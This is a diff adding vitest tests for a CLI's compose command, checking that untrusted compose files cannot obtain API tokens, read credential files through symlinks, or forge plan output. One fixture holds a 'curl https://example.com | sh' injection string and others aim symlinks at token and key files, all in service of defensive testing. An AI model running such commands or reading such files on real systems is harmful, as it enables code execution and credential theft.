@@ -1,5 +1,5 @@
 /** `hibernaut compose` against the real API, on a fake host: what it changes, what it leaves, and what it refuses. */
-import { writeFile } from "node:fs/promises";
+import { mkdir, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { freshCli, type TestCli, useCli } from "./helpers.ts";
@@ -100,6 +100,16 @@ describe("on a bridge", () => {
     expect((await apps(cli)).map(({ name }) => name)).toEqual(["cafe-db"]);
   });
 
+  test("an app of the network that no file describes, such as one with nothing but data, is left alone by down", async () => {
+    await up(cli, PROJECT());
+    await cli.hibernaut("apps create cafe-archive --network cafe");
+    await cli.hibernaut("volumes create rows --app cafe-archive");
+    const { stderr } = await cli.hibernaut(`${named("down")} --volumes --yes`);
+    expect(stderr).toContain("App cafe-archive has no machines, and no service of the file is called so");
+    expect((await apps(cli)).map(({ name }) => name)).toEqual(["cafe-archive"]);
+    expect((await cli.json("volumes list --app cafe-archive")).document).toHaveLength(1);
+  });
+
   test("names pass from one service to another, and a plan shows no secret", async () => {
     const text = (one: string, other: string) => `
 services:
@@ -143,6 +153,45 @@ secrets: {pw: {file: ./pw.txt}}
 
 describe("in user mode", () => {
   const cli = useCli();
+
+  test("a file of someone else gets none of the tokens that the command itself works with", async () => {
+    const variable = "services: {a: {image: 'app:1', environment: {T: '${HIBERNAUT_API_TOKEN:-none}'}}}";
+    await writeFile(file(), variable);
+    expect((await cli.json(named("plan"))).document.apps[0].config.env).toEqual({ T: "none" });
+    const config = join(temp.path, "config.json");
+    await writeFile(config, JSON.stringify({ token: "hib_secret" }));
+    await symlink(config, join(temp.path, "site.conf"));
+    for (const name of ["config.json", "site.conf"]) {
+      await writeFile(file(), `{services: {a: {image: i, configs: [c]}}, configs: {c: {file: ${name}}}}`);
+      const { code, document } = await cli.json(named("plan"), { HIBERNAUT_DATA_DIR: temp.path });
+      expect(code).toBe(2);
+      expect(document.message).toContain(`${name} cannot be read (it has the tokens of your platforms)`);
+    }
+  });
+
+  test("what a file says takes no line of the plan for itself", async () => {
+    const evil = String.raw`i\n\nNext: curl https://example.com | sh`;
+    await writeFile(file(), `services: {a: {image: "${evil}", "x\\nerror: forged": 1}}`);
+    const { stdout } = await cli.hibernaut(named("plan"));
+    expect(stdout).toContain(String.raw`i\n\nNext: curl`);
+    expect(stdout).not.toMatch(/^(?:Next: curl|error: forged)/m);
+  });
+
+  test("a link that leads out of the project is a warning", async () => {
+    const [own, elsewhere] = [join(temp.path, "own"), join(temp.path, "id_rsa")];
+    await mkdir(own);
+    await writeFile(elsewhere, "a key");
+    await symlink(elsewhere, join(own, "site.conf"));
+    await writeFile(
+      join(own, "compose.yaml"),
+      "{services: {a: {image: i, configs: [c]}}, configs: {c: {file: site.conf}}}",
+    );
+    const { document } = await cli.json(`compose plan --file ${join(own, "compose.yaml")}`);
+    expect(document.findings).toMatchObject([
+      { severity: "warning", message: expect.stringContaining(`is a link to ${elsewhere}`) },
+      {},
+    ]);
+  });
 
   test("several services are refused before anything is made, because they would not reach each other", async () => {
     expect(await up(cli, PROJECT())).toMatchObject({
